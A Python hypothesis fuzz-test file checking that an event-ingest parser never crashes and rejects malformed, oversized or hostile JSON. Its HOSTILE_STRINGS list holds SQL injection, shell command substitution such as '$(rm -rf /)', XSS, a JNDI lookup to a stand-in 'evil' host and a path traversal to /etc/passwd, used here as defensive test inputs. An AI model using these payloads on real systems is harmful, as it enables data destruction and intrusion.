"""The event contract under generated malformed and hostile input (hypothesis).

Invariants: parse_event never raises; it returns an Event or a Rejection whose reason is one of the
docs/contract.md §1 codes; an accepted event never carries a guarded attribute; key order never decides whether
a valid event is accepted; the same bytes always give the same answer.

The example counts are fixed per test (see BUDGET); in CI their sum is at least 10,000 malformed or
hostile inputs, derandomized so a CI run is reproducible (the `ci` profile of tests/conftest.py); a
developer's run takes a twenty-fifth of each.
"""

import copy
import json
import math
import re
import time
import unicodedata
from datetime import datetime, timedelta, timezone
from pathlib import Path

import orjson
from hypothesis import assume, event, given, settings
from hypothesis import strategies as st

from pipeline.contract import (
    ALLOWED_FIELDS,
    GUARDED_ATTRIBUTES,
    MAX_MESSAGE_BYTES,
    REQUIRED_FIELDS,
    Event,
    Rejection,
    load_vocabulary,
    parse_event,
    validate_object,
)
from pipeline.ingest.items import judge
from pipeline.protected import is_protected_attribute
from pipeline.timeutil import parse_time
from tests.conftest import examples

VOCAB = load_vocabulary(Path(__file__).resolve().parents[2] / "config" / "vocabulary.yaml")

REASON = re.compile(
    r"^(invalid_json|not_an_object|too_large|missing_field:\w+|invalid_field:[\w.]+.*|unknown_field:.+"
    r"|unknown_kind|unknown_type|naive_timestamp|future_timestamp)$"
)
EVENT_ID = re.compile(r"[A-Za-z0-9._:-]{1,128}")
END_OF_TIME = 253402300799.0  # 9999-12-31T23:59:59Z: a wall clock no valid time is ahead of


def showable(text: str) -> bool:
    """Safe in a line of a log: no control, line-separator, surrogate or unassigned character."""
    return not any(unicodedata.category(ch) in ("Cc", "Zl", "Zp", "Cs", "Cn", "Co") for ch in text)

# --- hypothesis settings (profiles: tests/conftest.py) ---------------------------------------------

# examples per test in CI; a developer's run takes a twenty-fifth (tests/conftest.py: examples())
BUDGET = {
    "arbitrary_bytes": 2000,
    "arbitrary_text": 800,
    "arbitrary_json": 1200,
    "deep_nesting": 250,
    "huge_numbers_and_long_strings": 400,
    "mutated_event": 2000,
    "nested_mutation": 1000,
    "unknown_fields": 500,
    "injection_strings": 1000,
    "guarded_attribute_any_case": 500,
    "time_fields": 400,
    "oversize": 250,
    "key_order": 300,
    "determinism": 300,
}


def budget(name: str) -> settings:
    return settings(max_examples=examples(BUDGET[name]))


def test_budget_is_at_least_ten_thousand_examples():
    assert sum(BUDGET.values()) >= 10_000


# --- the invariant ------------------------------------------------------------------------------------


def check(raw, **kw):
    """parse_event must answer (never raise) with an Event or a well-formed Rejection."""
    result = parse_event(raw, VOCAB, **kw)
    assert isinstance(result, (Event, Rejection)), type(result)
    event(result.reason.split(":")[0] if isinstance(result, Rejection) else "accepted")  # --hypothesis-show-statistics
    if isinstance(result, Rejection):
        assert REASON.fullmatch(result.reason), result.reason
        code, _, rest = result.reason.partition(":")
        if code == "missing_field":
            assert rest in REQUIRED_FIELDS, result.reason
        if code == "invalid_field":
            assert rest.split(".", 1)[0] in ALLOWED_FIELDS, result.reason
        if code == "unknown_field":
            # at most 64 chars of the name, or the repr of those 64 chars (\U0001xxxx escapes: 10 each)
            assert len(rest) <= 2 + 10 * 64 and showable(rest), result.reason
        assert result.event_id is None or EVENT_ID.fullmatch(result.event_id), result.event_id
    else:
        doc = result.doc
        assert isinstance(doc, dict) and ALLOWED_FIELDS.issuperset(doc)
        assert EVENT_ID.fullmatch(result.event_id) and result.event_id == doc["event_id"]
        assert result.type in VOCAB.kinds[result.kind]
        assert isinstance(result.t, float) and math.isfinite(result.t)
        attributes = doc.get("attributes", {})
        assert not any(is_protected_attribute(key) for key in attributes), attributes
        if kw.get("now") is not None:
            assert result.t <= kw["now"] + kw.get("max_skew", 300.0)
        # Differential: whatever the msgspec fast path accepted, the careful validator accepts too,
        # with the same time (pipeline/event_schema.py must never be more lenient).
        careful = validate_object(copy.deepcopy(doc), VOCAB, **kw)
        assert isinstance(careful, Event), careful
        assert careful.t == result.t
    if isinstance(raw, bytes):
        same_verdict_over_http(raw, result, kw)
    return result


def same_verdict_over_http(raw: bytes, result, kw) -> None:
    """HTTP ingest judges items by its own fast path (pipeline/ingest/items.py): the same verdict."""
    source = result.doc["source"] if isinstance(result, Event) else "s"
    now = kw.get("now")
    verdicts = judge([raw], VOCAB, source, time.time() if now is None else now, kw.get("max_skew", 300.0))
    if isinstance(result, Event):
        [accepted] = verdicts.accepted
        assert (accepted.event_id, accepted.kind, accepted.type, accepted.t, accepted.raw) == (
            result.event_id, result.kind, result.type, result.t, raw)
        assert accepted.event().doc == result.doc
    else:
        [(_, _, rejection)] = verdicts.refused
        assert rejection == result


def same(a, b) -> bool:
    if isinstance(a, Rejection) or isinstance(b, Rejection):
        return a == b  # reason and event_id
    return (a.event_id, a.kind, a.type, a.t, a.doc) == (b.event_id, b.kind, b.type, b.t, b.doc)


# --- strategies ---------------------------------------------------------------------------------------

KIND_TYPES = sorted((k, t) for k, ts in VOCAB.kinds.items() for t in ts)

BASE_EVENT = {
    "event_id": "e-1",
    "kind": "dispute",
    "type": "reported",
    "occurred_at": "2024-11-05T09:30:00+08:00",
    "source": "mediation",
    "reported_at": "2024-11-05T09:35:00+08:00",
    "location": {"id": "HD-1-1203", "building": "1", "floor": 12, "unit": "1203", "checkpoint": "CP-1-03"},
    "subjects": [{"type": "person", "id": "P-0007", "role": "party"}],
    "severity": 3,
    "tags": ["threat_of_violence"],
    "attributes": {"households": 2, "note": "x", "codes": ["a", 1]},
    "text": "双方因噪音发生争执",
}
assert isinstance(parse_event(orjson.dumps(BASE_EVENT), VOCAB), Event)

# every place that holds a value in BASE_EVENT, as a path
VALUE_PATHS = (
    [(f,) for f in BASE_EVENT]
    + [("location", k) for k in BASE_EVENT["location"]]
    + [("subjects", 0, k) for k in BASE_EVENT["subjects"][0]]
    + [("subjects", 0), ("tags", 0), ("attributes", "households"), ("attributes", "codes", 0)]
)
def _get(doc, path):
    for p in path:
        doc = doc[p]
    return doc


STRING_PATHS = [p for p in VALUE_PATHS if isinstance(_get(BASE_EVENT, p), str)]

HOSTILE_STRINGS = [
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "\"; DROP TABLE events; --",
    "1; DELETE FROM contributions WHERE 1=1",
    "' UNION SELECT password FROM users --",
    "admin'--",
    "1' AND SLEEP(5)#",
    "$(rm -rf /)",
    "`id`",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "\"><svg/onload=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "../../../../etc/passwd",
    "%00",
    "\x00",
    "\u202e",
    "\ufeff",
    "\r\n",
    "\\",
    "\\u0000",
    "𝕏" * 10,
    "",
    " ",
    "null",
    "true",
    "NaN",
    "-1",
    "1e400",
    "__proto__",
    "constructor",
]

# time-shaped strings: with and without offset, lower case, out-of-range fields, garbage around them
time_like = st.builds(
    lambda dt, offset, sep, frac: dt.isoformat(sep=sep, timespec=frac) + offset,
    st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59, 59)),
    st.sampled_from(["", "", "Z", "z", "+08:00", "-05:30", "+00:00", "+24:00", "+0800", "+08", " Z", "Z\n"]),
    st.sampled_from(["T", "t", " ", "_"]),
    st.sampled_from(["auto", "seconds", "milliseconds", "microseconds", "minutes", "hours"]),
)
# names from the vocabulary, used where they do not belong (a type of another kind, a kind as a type)
vocab_names = st.sampled_from(sorted(set(VOCAB.kinds) | {t for ts in VOCAB.kinds.values() for t in ts}))

json_scalars = (
    st.none()
    | time_like
    | vocab_names
    | st.booleans()
    | st.integers()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=30)
    | st.sampled_from(HOSTILE_STRINGS)
    | st.integers(min_value=60, max_value=5000).map(lambda n: "A" * n)  # around the 64 / 4000 char limits
)
# strings that are not valid Unicode scalar sequences: serialized as escapes (ensure_ascii) or as
# surrogate bytes, either way the parser must refuse them rather than raise
lone_surrogates = st.text(alphabet=st.characters(categories=["Cs"]), min_size=1, max_size=3)
hostile_json_values = st.recursive(
    json_scalars | lone_surrogates,
    lambda children: st.lists(children, max_size=6)
    | st.dictionaries(st.text(max_size=12) | lone_surrogates, children, max_size=6),
    max_leaves=15,
)
# smaller values where several are drawn per example (keeps generation cheap)
small_hostile_values = st.recursive(
    json_scalars | lone_surrogates,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=6,
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=6) | st.dictionaries(st.text(max_size=12), children, max_size=6),
    max_leaves=15,
)


def dumps(value, ensure_ascii=False) -> bytes:
    """Serialize with the standard library: big integers survive, non-ASCII is kept or escaped."""
    text = json.dumps(value, ensure_ascii=ensure_ascii)
    return text.encode("utf-8", "surrogatepass")


# --- 1. arbitrary bytes and text ------------------------------------------------------------------------

interesting_bytes = st.sampled_from(
    [b"{", b"}", b"[", b"]", b'"', b":", b",", b"\\", b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x00", b"1e999",
     b'"event_id"', b'"attributes"', b'"religion"', b"null", b"true", b"\xef\xbb\xbf", b" "]
)


@budget("arbitrary_bytes")
@given(st.one_of(st.binary(max_size=2048), st.lists(interesting_bytes | st.binary(max_size=8), max_size=60).map(b"".join)))
def test_arbitrary_bytes(raw):
    result = check(raw)
    if isinstance(result, Rejection) and result.reason in ("invalid_json", "not_an_object", "too_large"):
        assert result.event_id is None


any_char = st.characters() | st.characters(categories=["Cs"]) | st.sampled_from('{}[]":,\\ ')


@budget("arbitrary_text")
@given(st.one_of(st.text(alphabet=any_char, max_size=500), json_values.map(lambda v: json.dumps(v, ensure_ascii=False))))
def test_arbitrary_text(text):
    result = check(text)
    try:
        encoded = text.encode("utf-8")
    except UnicodeEncodeError:
        assert result.reason == "invalid_json"
    else:
        assert same(result, check(encoded))


# --- 2. arbitrary JSON values ---------------------------------------------------------------------------


@budget("arbitrary_json")
@given(hostile_json_values, st.booleans())
def test_arbitrary_json(value, ensure_ascii):
    raw = dumps(value, ensure_ascii)
    result = check(raw)
    if not isinstance(value, dict) and len(raw) <= MAX_MESSAGE_BYTES:
        assert result.reason in ("not_an_object", "invalid_json")


@st.composite
def deep_documents(draw):
    depth = draw(st.integers(min_value=1000, max_value=5000))
    style = draw(st.sampled_from(["list", "object", "mixed"]))
    opens, closes = [], []
    for i in range(depth):
        kind = style if style != "mixed" else ("list" if (i * 7919) % 3 else "object")
        opens.append("[" if kind == "list" else '{"a":')
        closes.append("]" if kind == "list" else "}")
    leaf = draw(st.sampled_from(["1", '"x"', "null", "{}", "[]"]))
    body = "".join(opens) + leaf + "".join(reversed(closes))
    where = draw(st.sampled_from(["top", "attribute", "text", "location", "tags", "unknown"]))
    if where == "top":
        doc = body
    else:
        field = {"attribute": '"attributes":{"deep":%s}', "text": '"text":%s', "location": '"location":%s',
                 "tags": '"tags":%s', "unknown": '"deep":%s'}[where] % body
        doc = '{"event_id":"e-1","kind":"dispute","type":"reported","occurred_at":"2024-11-05T01:30:00Z",' \
              '"source":"s",%s}' % field
    if draw(st.booleans()):
        doc = doc[: draw(st.integers(min_value=1, max_value=len(doc)))]  # truncated somewhere
    return doc.encode()


@budget("deep_nesting")
@given(deep_documents())
def test_deep_nesting(raw):
    result = check(raw)
    assert isinstance(result, Rejection)


@st.composite
def huge_and_long(draw):
    digits = draw(st.integers(min_value=19, max_value=5000))
    sign = draw(st.sampled_from(["", "-"]))
    number = sign + "1" + "0" * (digits - 1)
    number = draw(st.sampled_from([number, number + ".5", number + "e10", "0." + "0" * digits + "1",
                                   "1e" + str(digits), "1e-" + str(digits), number[:400] + "E+999"]))
    long_string = json.dumps(draw(st.characters(codec="utf-8")) * draw(st.integers(min_value=0, max_value=20000)))
    field = draw(st.sampled_from(["severity", "location.floor", "attributes.n", "tags", "text", "source",
                                  "event_id", "top", "subjects"]))
    value = draw(st.sampled_from([number, long_string, "[%s]" % number, "[%s]" % long_string]))
    if field == "top":
        return value.encode()
    base = orjson.dumps(BASE_EVENT).decode()
    if "." in field:
        outer, inner = field.split(".")
        obj = json.loads(base)
        obj[outer][inner] = "@@"
        base = json.dumps(obj, ensure_ascii=False)
        return base.replace('"@@"', value).encode()
    obj = json.loads(base)
    obj[field] = "@@"
    return json.dumps(obj, ensure_ascii=False).replace('"@@"', value).encode()


@budget("huge_numbers_and_long_strings")
@given(huge_and_long())
def test_huge_numbers_and_long_strings(raw):
    check(raw)


# --- 3. mutations of a valid event ----------------------------------------------------------------------


@budget("mutated_event")
@given(
    st.lists(
        st.tuples(st.sampled_from(["drop", "replace"]), st.sampled_from(sorted(BASE_EVENT)), small_hostile_values),
        min_size=1,
        max_size=4,
    ),
    st.booleans(),
)
def test_mutated_event(mutations, ensure_ascii):
    doc = copy.deepcopy(BASE_EVENT)
    for op, field, value in mutations:
        if op == "drop":
            doc.pop(field, None)
        else:
            doc[field] = value
    result = check(dumps(doc, ensure_ascii))
    missing = [f for f in REQUIRED_FIELDS if f not in doc]
    if missing:
        # invalid_json only when a lone surrogate made the bytes unreadable
        assert result.reason in (f"missing_field:{missing[0]}", "invalid_json")


def _set(doc, path, value):
    target = doc
    for p in path[:-1]:
        target = target[p]
    target[path[-1]] = value


def _drop(doc, path):
    target = doc
    for p in path[:-1]:
        target = target[p]
    if isinstance(target, dict):
        target.pop(path[-1], None)
    else:
        del target[path[-1]]


@budget("nested_mutation")
@given(st.sampled_from(VALUE_PATHS), st.sampled_from(["drop", "replace"]), json_values)
def test_nested_mutation(path, op, value):
    doc = copy.deepcopy(BASE_EVENT)
    if op == "drop":
        _drop(doc, path)
    else:
        _set(doc, path, value)
    result = check(dumps(doc))
    if isinstance(result, Rejection) and len(path) > 1:
        # a problem inside an optional field is reported under that field
        assert result.reason.startswith(f"invalid_field:{path[0]}"), (path, result.reason)


field_names = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["id", "eventId", "Event_id", "occurredAt", "religion", "attributes.religion", "__proto__",
                     "", " ", "\n", "\x00", "kind ", "KIND", "x" * 1000]),
)


@budget("unknown_fields")
@given(st.dictionaries(field_names, json_scalars, min_size=1, max_size=5))
def test_unknown_fields(extra):
    extra = {k: v for k, v in extra.items() if k not in ALLOWED_FIELDS}
    assume(extra)
    doc = {**BASE_EVENT, **extra}
    result = check(dumps(doc))
    first = sorted(extra)[0]
    shown = first[:64] if first[:64] and showable(first[:64]) else repr(first[:64])
    assert result.reason == f"unknown_field:{shown}"
    assert result.event_id == "e-1"


hostile_text = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.integers(min_value=60, max_value=5000).map(lambda n: "<script>" * (n // 8)),
    st.tuples(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=20), st.sampled_from(HOSTILE_STRINGS)).map("".join),
)


@budget("injection_strings")
@given(st.lists(st.tuples(st.sampled_from(STRING_PATHS + [("attributes", "@key")]), hostile_text), min_size=1, max_size=3))
def test_injection_strings(injections):
    doc = copy.deepcopy(BASE_EVENT)
    for path, payload in injections:
        if path == ("attributes", "@key"):
            doc["attributes"][payload] = "v"
        else:
            _set(doc, path, payload)
    result = check(dumps(doc))
    if isinstance(result, Event):
        # accepted strings are stored verbatim: the contract does not rewrite them (storage must bind them)
        assert result.doc == doc


@budget("guarded_attribute_any_case")
@given(
    st.sampled_from(sorted(GUARDED_ATTRIBUTES)).flatmap(
        lambda name: st.lists(st.booleans(), min_size=len(name), max_size=len(name)).map(
            lambda upper: "".join(c.upper() if u else c for c, u in zip(name, upper, strict=False))
        )
    ),
    json_scalars | st.lists(json_scalars, max_size=3),
    st.dictionaries(st.from_regex(r"[a-z_]{1,12}", fullmatch=True), st.integers(), max_size=5),
)
def test_guarded_attribute_any_case(name, value, others):
    others = {k: v for k, v in others.items() if not is_protected_attribute(k)}
    attributes = {**others, name: value}
    doc = {**BASE_EVENT, "attributes": attributes}
    result = check(dumps(doc))
    assert isinstance(result, Rejection)
    assert result.reason == f"invalid_field:attributes.{name}"
    assert result.event_id == "e-1"


@budget("time_fields")
@given(
    st.sampled_from(["occurred_at", "reported_at"]),
    time_like | st.text(alphabet="0123456789-:.TtZz+ ", max_size=40),
    st.one_of(st.none(), st.floats(min_value=-1e11, max_value=3e11)),
)
def test_time_fields(field, value, now):
    doc = {**BASE_EVENT, field: value}
    result = check(dumps(doc), now=now)
    if isinstance(result, Rejection):
        assert result.reason in (f"invalid_field:{field}", "naive_timestamp", "future_timestamp"), result.reason
        assert result.event_id == "e-1"
        if result.reason == "future_timestamp":  # occurred_at against `now`, or the wall clock when none is given
            assert parse_time(doc["occurred_at"]).timestamp() > (time.time() if now is None else now) + 300.0


# --- 4. oversize documents -----------------------------------------------------------------------------


@budget("oversize")
@given(
    st.integers(min_value=MAX_MESSAGE_BYTES + 1, max_value=4 * MAX_MESSAGE_BYTES),
    st.sampled_from(["garbage", "valid_padded", "huge_text", "many_keys", "str_multibyte"]),
    st.binary(min_size=1, max_size=32),
)
def test_oversize(size, shape, chunk):
    if shape == "garbage":
        raw = (chunk * (size // len(chunk) + 1))[:size]
    elif shape == "valid_padded":
        base = orjson.dumps(BASE_EVENT)
        raw = base + b" " * (size - len(base))
    elif shape == "huge_text":
        raw = orjson.dumps({**BASE_EVENT, "text": "x" * size})
    elif shape == "many_keys":
        raw = orjson.dumps({**BASE_EVENT, "attributes": {f"k{i:07d}": i for i in range(size // 12)}})
    else:
        raw = orjson.dumps({**BASE_EVENT, "text": ""}).decode() + "\u3000" * (size // 3 + 1)
    assert len(raw.encode() if isinstance(raw, str) else raw) > MAX_MESSAGE_BYTES
    result = check(raw)
    assert result == Rejection("too_large", None)


# --- 5. key order and determinism -----------------------------------------------------------------------


@st.composite
def valid_events(draw):
    kind, type_ = draw(st.sampled_from(KIND_TYPES))
    local = draw(st.datetimes(min_value=datetime(1000, 1, 2), max_value=datetime(9998, 12, 30)))
    offset = timedelta(minutes=draw(st.integers(min_value=-(23 * 60 + 59), max_value=23 * 60 + 59)))
    dt = local.replace(tzinfo=timezone(offset))
    occurred_at = dt.isoformat()
    if offset == timedelta(0) and draw(st.booleans()):
        occurred_at = occurred_at.replace("+00:00", "Z")
    doc = {
        "event_id": draw(st.from_regex(r"[A-Za-z0-9._:-]{1,128}", fullmatch=True)),
        "kind": kind,
        "type": type_,
        "occurred_at": occurred_at,
        "source": draw(st.text(min_size=1, max_size=64)),
    }
    optional = {
        "reported_at": st.just(occurred_at),
        "location": st.fixed_dictionaries(
            {},
            optional={
                "id": st.text(min_size=1, max_size=20),
                "building": st.text(min_size=1, max_size=5),
                "floor": st.integers(min_value=-3, max_value=60),
                "unit": st.text(min_size=1, max_size=8),
                "checkpoint": st.text(min_size=1, max_size=8),
            },
        ),
        "subjects": st.lists(
            st.fixed_dictionaries(
                {
                    "type": st.sampled_from(["person", "business"]),
                    "id": st.from_regex(r"[A-Za-z0-9._:-]{1,64}", fullmatch=True),
                    "role": st.text(min_size=1, max_size=10),
                }
            ),
            max_size=5,
        ),
        "severity": st.integers(min_value=1, max_value=5),
        "tags": st.lists(st.text(min_size=1, max_size=64), max_size=20),
        "attributes": st.dictionaries(
            st.text(max_size=20).filter(lambda k: not is_protected_attribute(k)),
            st.booleans() | st.integers(-(2**63), 2**63 - 1)
            | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30)
            | st.lists(st.integers(-100, 100) | st.text(max_size=5) | st.booleans(), max_size=5),
            max_size=10,
        ),
        "text": st.text(max_size=200),
    }
    for name in draw(st.sets(st.sampled_from(sorted(optional)))):
        doc[name] = draw(optional[name])
    return doc, dt.timestamp()


def _shuffled(value, rnd, deep):
    if isinstance(value, dict):
        items = list(value.items())
        rnd.shuffle(items)
        return {k: (_shuffled(v, rnd, deep) if deep else v) for k, v in items}
    if isinstance(value, list) and deep:
        return [_shuffled(v, rnd, deep) for v in value]
    return value


@budget("key_order")
@given(valid_events(), st.randoms(use_true_random=False),
       st.lists(st.tuples(st.sampled_from(VALUE_PATHS[:12]), json_scalars), max_size=1))
def test_key_order(generated, rnd, mutation):
    doc, epoch = generated
    read_at = {"now": END_OF_TIME}  # read after every generated time: none is from the future
    first = check(orjson.dumps(doc), **read_at)
    assert isinstance(first, Event), first
    assert first.t == epoch
    for deep in (False, True):
        again = check(orjson.dumps(_shuffled(doc, rnd, deep)), **read_at)
        assert isinstance(again, Event)
        assert again.t == first.t and again.doc == first.doc
    # a broken event: top-level order never changes the reason, any order never changes the outcome
    broken = dict(doc)
    for (path, value) in mutation:
        broken[path[0]] = value
    a = check(dumps(broken), **read_at)
    b = check(dumps(_shuffled(broken, rnd, False)), **read_at)
    c = check(dumps(_shuffled(broken, rnd, True)), **read_at)
    assert same(a, b)
    assert type(a) is type(c)


@budget("determinism")
@given(
    st.one_of(
        hostile_json_values.map(dumps),
        st.binary(max_size=256),
        st.lists(st.tuples(st.sampled_from(sorted(BASE_EVENT)), hostile_json_values), max_size=3).map(
            lambda changes: dumps({**BASE_EVENT, **dict(changes)}, ensure_ascii=True)
        ),
    ),
    st.one_of(st.none(), st.floats(min_value=0, max_value=4e9)),
)
def test_determinism(raw, now):
    results = [check(raw, now=now) for _ in range(3)]
    assert same(results[0], results[1]) and same(results[1], results[2])
    if isinstance(raw, bytes):
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            return
        assert same(results[0], check(text, now=now))
